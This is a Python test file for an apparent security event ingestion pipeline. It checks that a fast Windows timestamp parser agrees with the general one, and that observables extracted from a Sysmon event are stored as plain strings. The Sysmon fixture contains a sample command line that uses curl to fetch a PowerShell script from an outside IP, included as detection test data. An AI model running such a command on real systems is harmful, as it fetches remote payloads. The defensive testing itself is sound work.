"""Fast paths of event preparation give what the general code gives."""

from __future__ import annotations

import orjson
import pytest

from bastion.ingest.normalize import normalize
from bastion.ingest.normalize.windows import _time_ms
from bastion.ingest.observables import extract_observables
from bastion.ingest.records import RawRecord
from bastion.model.timefmt import to_epoch_ms
from bastion.pipeline import prepare_events


@pytest.mark.parametrize(
    "text",
    [
        "2020-10-05T20:43:58.351744Z",
        "2020-10-05T20:43:58.351999Z",
        "2020-10-05T20:43:58Z",
        "2020-10-05T20:43:58.351744+02:00",
        "2020-10-05T20:43:58.351744-05:30",
        "2020-10-05T20:43:58.351744",  # no offset: UTC
        "1969-12-31T23:59:59.999500Z",  # before 1970: floored, as the general reader does
        "1900-01-01T00:00:00.000001Z",
        "2020-10-05T20:43:58.3517449Z",  # .NET's seven digits: the general reader's own path
        "2020-13-45T20:43:58Z",
    ],
)
def test_windows_time_reads_as_the_general_reader(text: str) -> None:
    assert _time_ms(text) == (to_epoch_ms(text) or 0)


def test_row_observables_are_plain_type_strings() -> None:
    record = {
        "Event": {
            "System": {
                "EventID": 1,
                "Channel": "Microsoft-Windows-Sysmon/Operational",
                "Computer": "ws1.corp.example.com",
                "TimeCreated": {"#attributes": {"SystemTime": "2024-01-02T03:04:05.678901Z"}},
            },
            "EventData": {
                "Image": "C:\\Windows\\System32\\cmd.exe",
                "CommandLine": "cmd /c curl http://198.51.100.7/x.ps1",
                "User": "CORP\\alice",
                "Hashes": "MD5=0123456789ABCDEF0123456789ABCDEF",
            },
        }
    }
    rows, errors = prepare_events([RawRecord(line=1, data=record)], now=1)
    assert errors == [] and len(rows) == 1
    expected = [(o.type.value, o.value) for o in extract_observables(normalize(record))]
    assert rows[0].observables == expected
    assert all(type(t) is str for t, _ in rows[0].observables)
    stored = orjson.loads(rows[0].normalized)["observables"]
    assert [(o["type"], o["value"]) for o in stored] == expected
